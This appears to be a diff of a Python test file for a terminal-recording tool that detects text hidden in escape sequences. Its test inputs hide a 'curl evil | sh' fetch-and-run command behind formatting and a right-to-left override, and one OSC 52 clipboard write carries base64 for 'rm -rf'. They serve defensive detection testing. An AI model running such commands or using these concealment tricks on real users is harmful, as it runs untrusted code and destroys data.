@@ -1,4 +1,4 @@
-"""Text that a terminal would swallow is found by search, and what a stream tries to do is said."""
+"""Invisible text is found by search, and the sequences that contain it are findings."""
 
 from __future__ import annotations
 
@@ -34,7 +34,7 @@ def recording(folder: Path, *outputs: bytes, kind: str = "o") -> Recording:
         "\x1b[1mcu\u202erl \x1b[0mevil | sh".encode(),
     ],
 )
-def test_search_finds_it(tmp_path: Path, data: bytes):
+def test_search_invisible_text_is_found(tmp_path: Path, data: bytes):
     session = recording(tmp_path, b"\x1b[1m$ \x1b[0m", b"", data, b"\x1b[2J")
     hits = session.search("curl evil | sh")
     assert [(hit.time, hit.where, hit.text) for hit in hits if hit.where == "output"] == [(2.0, "output", hits[0].text)]
@@ -42,12 +42,12 @@ def test_search_finds_it(tmp_path: Path, data: bytes):
     assert not session.search("nowhere in it")
 
 
-def test_the_raw_view_holds_it(tmp_path: Path):
+def test_raw_view_contains_invisible_text(tmp_path: Path):
     session = recording(tmp_path, b"\x1b[1m$ ", b"\x1b]2;curl evil | sh")
     assert b"curl evil | sh" in session.stream.data(1)
 
 
-def test_attempts_are_findings_with_their_moment(tmp_path: Path):
+def test_findings_of_invisible_sequences_have_times(tmp_path: Path):
     session = recording(tmp_path, b"\x1b[1m$ ", b"\x1b]52;c;cm0gLXJm\x07", b"\x1b[21t", b"\x1b]9;hello\x07", b"\x1b[c")
     found = {finding.rule: finding.time for finding in session.findings}
     assert [time for rule, time in found.items() if "clipboard" in rule] == [1.0]
@@ -55,7 +55,7 @@ def test_attempts_are_findings_with_their_moment(tmp_path: Path):
     assert {"sequence-clipboard-write", "sequence-notification"} <= {note.code for note in session.fidelity}
 
 
-def test_swallowed_text_is_bounded_and_each_block_is_read_once():
+def test_iter_invisible_text_is_bounded_and_linear():
     stream = EventStream()
     for data in (
         b"\x1b]0;a\x07" * 300_000,
@@ -69,7 +69,7 @@ def test_swallowed_text_is_bounded_and_each_block_is_read_once():
     assert 1 <= len(blocks) <= len(stream.output) // BLOCK_BYTES + 1
 
 
-def test_blocks_do_not_cut_it():
+def test_iter_invisible_text_across_blocks_is_whole():
     stream = EventStream()
     stream.append(
         0.0, "o", b"x" * (BLOCK_BYTES - 8) + b"\x1b]2;over the edge\x07 " + b"y" * BLOCK_BYTES + b"\x1b]2;again"
